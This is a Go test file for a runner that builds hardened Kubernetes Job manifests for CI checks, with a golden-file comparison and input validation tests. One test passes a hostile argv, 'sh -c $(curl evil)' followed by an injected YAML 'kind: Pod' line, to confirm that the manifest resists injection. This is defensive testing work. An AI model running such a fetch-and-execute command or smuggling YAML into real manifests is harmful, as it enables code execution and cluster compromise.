package runner

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"gopkg.in/yaml.v3"

	"github.com/zero-dev/zero/internal/repoagent/policy"
)

var kubeCheck = KubeCheck{Name: "check-acme-widget-7", Image: "registry.example/ci/go:1.26", Argv: []string{"go", "test", "./..."},
	Limits: policy.Limits{MemoryMiB: 2048, CPUPercent: 200, Pids: 1024}, Timeout: 10 * time.Minute, WorkMiB: 1024}

// TestKubeManifestGolden: the manifest of a check as a Kubernetes Job is
// the one in testdata/kubejob.golden.yaml (ZERO_UPDATE_GOLDEN=1 writes it
// again), and what makes it safe is there: no service-account token, no
// service links, a non-root user without capabilities or privilege
// escalation, a read-only root filesystem, the limits, an emptyDir work
// folder, the operator's image, and a NetworkPolicy denying all traffic.
func TestKubeManifestGolden(t *testing.T) {
	got, err := KubeManifest(kubeCheck)
	if err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("testdata", "kubejob.golden.yaml")
	if os.Getenv("ZERO_UPDATE_GOLDEN") != "" {
		os.WriteFile(golden, got, 0o644)
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("the manifest differs from %s:\n%s", golden, got)
	}
	dec := yaml.NewDecoder(bytes.NewReader(got))
	var job, deny map[string]any
	if err := dec.Decode(&job); err != nil {
		t.Fatal(err)
	}
	if err := dec.Decode(&deny); err != nil {
		t.Fatal(err)
	}
	pod := job["spec"].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)
	c := pod["containers"].([]any)[0].(map[string]any)
	sc := c["securityContext"].(map[string]any)
	limits := c["resources"].(map[string]any)["limits"].(map[string]any)
	if pod["automountServiceAccountToken"] != false || pod["enableServiceLinks"] != false || sc["allowPrivilegeEscalation"] != false ||
		sc["readOnlyRootFilesystem"] != true || limits["memory"] != "2048Mi" || limits["cpu"] != "2000m" || c["image"] != kubeCheck.Image {
		t.Errorf("the pod: %v", pod)
	}
	if deny["kind"] != "NetworkPolicy" || len(deny["spec"].(map[string]any)["policyTypes"].([]any)) != 2 || deny["spec"].(map[string]any)["ingress"] != nil {
		t.Errorf("the network policy: %v", deny)
	}
}

// TestKubeManifestRefuses: a name that is not a label, an image with a
// space, an empty check or missing limits are refused; a check's argv
// stays a list, whatever it holds.
func TestKubeManifestRefuses(t *testing.T) {
	for _, edit := range []func(*KubeCheck){
		func(c *KubeCheck) { c.Name = "Check_1" },
		func(c *KubeCheck) { c.Image = "go:1 --privileged" },
		func(c *KubeCheck) { c.Argv = nil },
		func(c *KubeCheck) { c.Limits.MemoryMiB = 0 },
		func(c *KubeCheck) { c.Timeout = 0 },
	} {
		c := kubeCheck
		edit(&c)
		if _, err := KubeManifest(c); err == nil {
			t.Errorf("%+v was taken", c)
		}
	}
	c := kubeCheck
	c.Argv = []string{"sh", "-c", "$(curl evil)\nkind: Pod"}
	out, err := KubeManifest(c)
	if err != nil {
		t.Fatal(err)
	}
	var job map[string]any
	yaml.NewDecoder(bytes.NewReader(out)).Decode(&job)
	cmd := job["spec"].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)["containers"].([]any)[0].(map[string]any)["command"].([]any)
	if len(cmd) != 3 || cmd[2] != c.Argv[2] || strings.Count(string(out), "\nkind: ") != 2 {
		t.Errorf("a hostile argv: %v\n%s", cmd, out)
	}
}
